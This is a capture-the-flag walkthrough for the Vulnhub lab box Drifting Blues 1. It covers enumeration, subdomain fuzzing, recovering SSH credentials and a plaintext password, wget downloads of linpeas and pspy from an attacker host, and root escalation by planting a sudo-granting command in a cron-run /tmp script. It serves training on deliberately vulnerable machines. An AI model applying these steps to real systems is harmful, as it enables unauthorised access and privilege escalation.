Drifting Blues 1

Drifting Blues 1

Drifting Blues is the first in a series of 9 boxes on Vulnhub.

User Hints
  • Have you looked at the website's source code?
  • Searching for the word listed over and over in the note will help you decode it.
  • What can you do to enumerate subdomains on a website?
  • What file is used to prevent crawling of websites? Try this out on the uncovered subdomain.
Root Hints
  • What tool can you use to enumerate processes running on this system?
  • Are there any processes running on this system that can be abused?


Full WalkthroughFirst, let's find the IP address of the host by utilizing:

netdiscover -i eth0

from our Kali host. After a few moments, you should be able to uncover the IP of our target system.

Drifting Blues 1 netdiscover

Once you have discovered the IP, let’s enumerate this host to determine what ports/services are open/running. To do this, let’s run:


and enter the IP uncovered by netdiscover when prompted:

Drifting Blues 1 threader3000

Once it has completed, let it run it’s recommended nmap scan:

Drifting Blues 1 nmapIt appears that we have SSH and an web server running on this box. Let’s first take a look at the web server and open it up in a browser:

Drifting Blues 1 website

Next, I ran:

python3 dirsearch.py -u http://<target ip>

to attempt to find hidden directories/files, but nothing showed up:

Drifting Blues 1 dirsearch

Next, I looked at the source code on the main page of the website:

Drifting Blues 1 source code

It appears that this comment is base64 encoded, let’s decode it to see what it reveals (I utilized CyberChef for this:

Drifting Blues 1 base64 decode

Next, I navigated to the file on the website decoded above and was presented with the following:Drifting Blues 1 Ook

It appears to be some sort of encoding. I did a bit of research and came across the following site to decode this:

Drifting Blues 1 Ook Decoder

I then copied/pasted the text from the text file and decoded it, where I saw the following message:

Drifting Blues 1 Ook decoded message

This mentions a secret location that needs to be added to a host file. Let’s search around and see if we can find the domain name on the website somewhere:

Drifting Blues 1 website review

After looking at the pages on the website, there’s a email listed with a domain name of driftingblues.box. Let’s add that to our host file on our attacker box with:

sudo /etc/hosts

Drifting Blues 1 hosts file

Next, let’s navigate to http://driftingblues.box in our browser to confirm it works as expected:

Drifting Blues 1 website

It does, let’s attempt to enumerate subdomains with wfuzz. The command to use is as follows:

wfuzz -c -Z -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt -u "http://driftingblues.box" -H "Host: FUZZ.driftingblues.box" -t 50

This will attempt to fuzz subdomains using the supplied list. We receive several results as shown below:

Drifting Blues 1 wfuzz 1

Itappears that most of these redirect to the main site (which is 570 words, 7710 characters). Let’s exclude these by using the –hw flag which acts as a filter to filter out the number of words supplied (in this case, 570)

wfuzz -c -Z -w /usr/share/seclists/Discovery/DNS/subdomains-top1million-5000.txt -u "http://driftingblues.box" -H "Host: FUZZ.driftingblues.box" -t 50 -hw 570

This leaves us with one subdomain: test

Drifting Blues 1 wfuzz 2

Let’s add test.driftingblues.box to our hosts file by running:

nano /etc/hosts

Drifting Blues 1 /etc/hosts test subdomain

Next, let’s navigate to http://test.driftingblues.box

Drifting Blues 1 test site

It appears this is a test site that is currently being built. Let’s run:

python3 dirsearch.py -u http://test.driftingblues.box

Drifting Blues 1 dirsearch test subdomain

We will see that there is a robots.txt file listed for this subdomain. Let’s visit it in our browser:

Drifting Blues 1 robots.txtLet’s look at the /ssh_cred.txt file:

Drifting Blues 1 ssh_cred.txt

The username was a guess on my part, as we knew we had sheryl, eric, and db as users based on the notes uncovered so far. The user ended up being eric, and after a few attempts, we were able to get logged in with 1mw4ckyyucky6 as the password:


From here, we can run:

cat user.txt

to uncover the user flag.

Drifting Blues 1 user.txt

Next, let’s do some enumeration and see what we can do to escalate our privileges to root. On our attacker host, let’s server up an http serverin python with:

python3 -m http.server

Drifting Blues 1 python http server

On our victim box, let’s navigate to the tmp directory with:

cd tmp

followed by:

wget http://<attacker ip>:8000/linpeas.sh

This will download the linpeas.sh script that is well known for it’s enumeration capabilities.

Once downloaded, let’s run:

chmod +x linpeas.sh

so the script can be executed.

Drifting Blues 1 wgetNext, let’s run the script with:


Drifting Blues 1 linpeas.sh

It appears that the path may be abused, but before I went down that route, I decided to download pspy64 to have it enumerate processes that are running. To download this and make it executable, I ran:

wget http://<attackerip>:8000/pspy64

on the victim host followed by:

chmod +x pspy64

to make it executable.

Drifting Blues 1 wget2

Next, I ran pspy64 with:


Drifting Blues 1 pspyAfter a few moments, it showed me that /tmp/emergency was being ran with sudo privileges every minute. I navigated to the /tmp directory with:

cd /tmp

and the emergency file was not present. I then ran:

nano emergency

and added in

sudo usermod -aG sudo eric

to add eric to the list of sudo users:Drifting Blues 1 emergency file

Next, after saving this file, I made it executable with:

chmod +x emergency

Drifting Blues 1 chmod emergency

Next, I waited a couple of minutes (as this script runs every minute), and thenused:

sudo su

to escalate my privileges to root. I then ran the following commands:

**cd /root**


cat root.txtDrifting Blues 1 root

That’s it! Afterfinding the root flag we’ve completed this box.